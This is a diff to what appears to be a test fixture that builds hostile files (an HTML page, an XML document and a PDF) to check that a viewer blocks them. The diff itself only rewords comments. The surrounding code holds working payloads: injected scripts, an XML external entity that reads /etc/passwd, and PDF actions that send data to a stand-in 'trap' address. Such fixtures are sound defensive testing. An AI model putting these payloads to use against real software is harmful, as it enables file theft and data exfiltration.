@@ -7,7 +7,7 @@ export type HostileFile = ChosenFile & {
   shown: 'text' | 'image' | 'pdf' | 'other';
 };
 
-/** A script that shows a dialog, marks the window, and sends what it finds to the trap in every way. */
+/** A script that shows a dialog, marks the window, and sends the data that it finds to the trap in several ways. */
 const scriptFor = (trap: string) =>
   [
     'window.ran = true; alert("ran");',
@@ -17,7 +17,7 @@ const scriptFor = (trap: string) =>
     'try { top.ran = true; opener.ran = true; } catch {}',
   ].join('\n');
 
-/** A page that runs a script in many ways, and loads from the trap without one. */
+/** A page that runs a script in many ways, and loads addresses of the trap without a script, too. */
 export const hostilePage = (trap: string): string => `<!doctype html>
 <html><head><meta http-equiv="refresh" content="1;url=${trap}/refresh">
 <link rel="stylesheet" href="${trap}/style"><script src="${trap}/script"></script>
@@ -38,7 +38,7 @@ const entities = (trap: string) => `<?xml version="1.0"?>
 <!DOCTYPE r [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY far SYSTEM "${trap}/entity">]>
 <r>&file;&far;<script xmlns="http://www.w3.org/1999/xhtml">${scriptFor(trap)}</script></r>`;
 
-/** A PDF that acts when it is opened, with a page of HTML behind its end. */
+/** A PDF that acts when it is opened, with a page of HTML after its end. */
 function activePdf(trap: string): string {
   const code = `app.alert("ran"); this.submitForm("${trap}/pdf-form"); app.launchURL("${trap}/pdf-url");`;
   return `%PDF-1.4
@@ -78,7 +78,7 @@ function hugePicture(): Buffer {
 
 /**
  * Files that would run scripts, load addresses or mislead if the browser allowed it.
- * @param trap the address to which they would send what they find
+ * @param trap the address to which they would send the data that they find
  */
 export function hostileFiles(trap: string): HostileFile[] {
   const page = hostilePage(trap);
